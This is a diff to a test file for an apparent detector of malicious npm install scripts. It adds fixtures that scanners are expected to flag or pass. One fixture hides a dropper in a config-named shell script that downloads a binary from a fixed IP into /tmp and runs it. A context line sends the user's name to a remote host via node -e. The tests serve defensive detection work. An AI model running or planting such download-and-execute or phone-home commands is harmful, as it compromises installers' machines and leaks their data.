@@ -22,6 +22,16 @@ testCheck(installScripts, {
       message: /through preinstall\.sh/,
     },
     {
+      label: 'the same dropper in a shell script named like a config file (sh scripts/setup.cfg)',
+      manifest: { scripts: { postinstall: 'sh scripts/setup.cfg' } },
+      files: {
+        'scripts/setup.cfg':
+          '#!/bin/sh\ncurl -fsSL http://203.0.113.7/x -o /tmp/.x && chmod +x /tmp/.x && /tmp/.x\n',
+      },
+      severity: 'critical',
+      message: /through scripts\/setup\.cfg/,
+    },
+    {
       label: 'install running node -e that phones home',
       manifest: {
         scripts: { install: "node -e \"require('http').get('http://1.2.3.4:8080/'+process.env.USER)\"" },
@@ -106,6 +116,17 @@ testCheck(installScripts, {
       label: 'esbuild-style install.js',
       manifest: { scripts: { postinstall: 'node install.js' } },
       files: { 'install.js': '' },
+    },
+    {
+      label: 'a shipped shell script with a config-like name that only sets up a folder',
+      manifest: { scripts: { postinstall: 'sh ./scripts/link-hooks.cfg || true' } },
+      files: { 'scripts/link-hooks.cfg': '#!/bin/sh\nmkdir -p .git/hooks 2>/dev/null\necho "hooks ready"\n' },
+      cleanBelow: 'high',
+    },
+    {
+      label: 'sh -c with inline text is not a file of the package',
+      manifest: { scripts: { postinstall: "sh -c 'echo thanks for installing'" } },
+      cleanBelow: 'high',
     },
     {
       label: 'core-js-style banner',
